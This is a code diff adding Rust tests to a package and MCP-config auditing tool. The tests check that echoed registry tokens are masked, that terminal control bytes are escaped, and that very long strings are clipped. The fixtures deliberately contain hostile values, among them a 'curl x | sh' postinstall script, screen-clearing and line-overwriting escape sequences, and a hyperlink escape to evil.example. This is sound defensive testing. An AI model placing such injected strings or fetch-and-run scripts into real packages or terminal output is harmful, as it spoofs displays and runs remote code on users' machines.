@@ -203,3 +203,196 @@ fn help_states_what_is_not_implemented() {
     );
     assert!(text.contains("Exit codes"), "{text}");
 }
+
+/// The token the `reflected-token` fixture echoes back in its publisher, maintainers,
+/// `deprecated`, install script, repository URL and a git dependency.
+const REFLECTED: &str = "npm_ReflectedFixtureToken0123456789abcdef";
+
+#[test]
+fn a_configured_token_the_registry_reflects_is_never_printed() {
+    let reg = fixture_registry();
+    // The registry answers only with the token, so the scan below really was made with it.
+    reg.require_bearer(REFLECTED);
+    let npm_key = format!(
+        "{}:_authToken={REFLECTED}",
+        reg.url().trim_start_matches("http:")
+    );
+    for format in ["table", "json"] {
+        let out = run(scan(
+            &reg,
+            &[
+                "reflected-token",
+                "--npm-config",
+                &npm_key,
+                "--no-tarball",
+                "--verbose",
+                "--format",
+                format,
+            ],
+        ));
+        assert!(out.code == 0 || out.code == 1, "{format}: {}", out.stderr);
+        assert!(out.stdout.contains("reflected-token"), "{}", out.stdout);
+        // What was reflected is still reported, with the token masked.
+        assert!(out.stdout.contains("***"), "{}", out.stdout);
+        for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+            assert!(!text.contains(REFLECTED), "{format} {stream}:\n{text}");
+            // URL userinfo is redacted whoever's it is.
+            assert!(!text.contains("hunter2"), "{format} {stream}:\n{text}");
+            assert!(!text.contains("deploy:"), "{format} {stream}:\n{text}");
+        }
+        if format == "json" {
+            json(&out);
+        }
+    }
+    let mut cmd = mcp_audit();
+    cmd.args([
+        "facts",
+        "reflected-token",
+        "--registry",
+        &reg.url(),
+        "--npm-config",
+        &npm_key,
+        "--no-tarball",
+        "--now",
+        NOW,
+    ]);
+    let out = run(cmd);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(json(&out)["package"]["name"], "reflected-token");
+    assert!(!out.stdout.contains(REFLECTED), "{}", out.stdout);
+    assert!(!out.stdout.contains("hunter2"), "{}", out.stdout);
+    assert!(reg
+        .authorizations()
+        .iter()
+        .all(|a| a.as_deref() == Some(&format!("Bearer {REFLECTED}")[..])));
+}
+
+/// Bytes that move the cursor, clear the screen, open a hyperlink, ring the bell or overwrite a
+/// line.
+const HOSTILE: [&str; 6] = [
+    "\x1b[2J",
+    "\x1b]8;;https://evil.example\x07",
+    "\x07",
+    "\r",
+    "\x08",
+    "\x1b[1A",
+];
+
+fn assert_no_control_bytes(what: &str, text: &str) {
+    for c in ['\x1b', '\x07', '\r', '\x08'] {
+        assert!(!text.contains(c), "{what} contains {c:?}:\n{text}");
+    }
+}
+
+#[test]
+fn control_characters_from_a_registry_reach_no_terminal() {
+    let reg = fixture_registry();
+    let evil = |s: &str| format!("{s}{}PASS", HOSTILE.join(""));
+    reg.add_packument(
+        "hostile-strings",
+        serde_json::json!({
+            "name": "hostile-strings",
+            "dist-tags": {"latest": "1.0.0"},
+            "maintainers": [{"name": evil("m")}],
+            "time": {"1.0.0": "2026-03-01T10:00:00.000Z"},
+            "versions": {"1.0.0": {
+                "name": "hostile-strings", "version": "1.0.0",
+                "_npmUser": {"name": evil("publisher")},
+                "maintainers": [{"name": evil("m")}],
+                "deprecated": evil("deprecated"),
+                "scripts": {"postinstall": evil("curl x | sh")},
+                "bin": {evil("ls"): "cli.js"},
+                "dependencies": {"dep": evil("git+https://x.example/a.git#")},
+                "repository": {"type": "git", "url": evil("https://github.com/x/y")},
+                "dist": {"integrity": "sha512-AAAA", "tarball": "{{registry}}/nope.tgz"},
+            }},
+        }),
+    );
+    for format in ["table", "json"] {
+        let out = run(scan(
+            &reg,
+            &[
+                "hostile-strings",
+                "--no-tarball",
+                "--verbose",
+                "--format",
+                format,
+            ],
+        ));
+        assert!(out.code == 0 || out.code == 1, "{format}: {}", out.stderr);
+        assert!(out.stdout.contains("hostile-strings"), "{}", out.stdout);
+        assert_no_control_bytes(&format!("{format} stdout"), &out.stdout);
+        assert_no_control_bytes(&format!("{format} stderr"), &out.stderr);
+    }
+    // Escaped visibly, not dropped: a reader sees that something was there.
+    let out = run(scan(&reg, &["hostile-strings", "--no-tarball"]));
+    assert!(out.stdout.contains("\\x1b[2J"), "{}", out.stdout);
+}
+
+#[test]
+fn control_characters_from_a_client_config_reach_no_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = |s: &str| serde_json::json!(format!("{s}{}", HOSTILE.join("")));
+    let config = serde_json::json!({"mcpServers": {
+        "\u{1b}[2Jclear\rPASS": {"command": "npx", "args": ["-y", server("pkg")]},
+        "runner": {"command": server("node"), "args": [server("--flag"), "\u{1b}]8;;x\u{7}"]},
+        "remote": {"url": server("https://u\u{8}@example.com/mcp")},
+    }});
+    std::fs::write(
+        dir.path().join("claude_desktop_config.json"),
+        config.to_string(),
+    )
+    .unwrap();
+    for format in ["table", "json"] {
+        let mut cmd = mcp_audit();
+        cmd.current_dir(dir.path())
+            .env("HOME", dir.path())
+            .args([
+                "config",
+                "claude_desktop_config.json",
+                "--no-scan",
+                "--verbose",
+            ])
+            .args(["--format", format]);
+        let out = run(cmd);
+        assert!(out.stdout.contains("runner"), "{}", out.stdout);
+        assert_no_control_bytes(&format!("{format} stdout"), &out.stdout);
+        assert_no_control_bytes(&format!("{format} stderr"), &out.stderr);
+    }
+}
+
+#[test]
+fn a_multi_megabyte_word_prints_short() {
+    let reg = fixture_registry();
+    let word = "w".repeat(6 * 1024 * 1024);
+    reg.add_packument(
+        "long-word",
+        serde_json::json!({
+            "name": "long-word",
+            "dist-tags": {"latest": "1.0.0"},
+            "time": {"1.0.0": "2026-03-01T10:00:00.000Z"},
+            "versions": {"1.0.0": {
+                "name": "long-word", "version": "1.0.0",
+                "_npmUser": {"name": word},
+                "maintainers": [{"name": "alice"}],
+                "deprecated": word,
+                "dist": {"integrity": "sha512-AAAA", "tarball": "{{registry}}/nope.tgz"},
+            }},
+        }),
+    );
+    let out = run(scan(&reg, &["long-word", "--no-tarball", "--verbose"]));
+    assert!(out.code == 0 || out.code == 1, "{}", out.stderr);
+    assert!(out.stdout.contains("is deprecated"), "{}", out.stdout);
+    // Clipped, and saying by how much.
+    assert!(out.stdout.contains("(6291456 bytes)"), "{}", out.stdout);
+    assert!(
+        out.stdout.len() < 20_000,
+        "{} bytes on stdout",
+        out.stdout.len()
+    );
+    assert!(
+        out.stderr.len() < 20_000,
+        "{} bytes on stderr",
+        out.stderr.len()
+    );
+}
